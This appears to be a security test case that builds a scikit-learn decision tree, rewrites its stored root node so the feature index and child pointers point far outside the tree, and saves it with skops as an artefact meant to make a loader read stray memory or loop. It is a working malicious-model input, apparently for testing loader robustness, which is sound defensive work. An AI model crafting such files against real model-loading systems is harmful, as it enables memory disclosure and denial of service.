"""A decision tree of scikit-learn whose stored nodes point far beyond the tree.

Tries: to read memory of the process that loads it, or to have it walk in circles.
Covers: search-memory headers
Road: model skops
Image: python-ml
Must: PE or RTE or TLE or WA or AC
"""

import numpy as np
import skops.io
from sklearn.tree import DecisionTreeClassifier

rng = np.random.default_rng(0)
tree = DecisionTreeClassifier(random_state=0).fit(rng.normal(size=(90, 4)), np.arange(90) % 3)
_, _, state = tree.tree_.__reduce__()
state["nodes"]["feature"][0] = 1 << 40
state["nodes"]["left_child"][0] = state["nodes"]["right_child"][0] = 1 << 40
tree.tree_.__setstate__(state)
skops.io.dump(tree, "artefact")
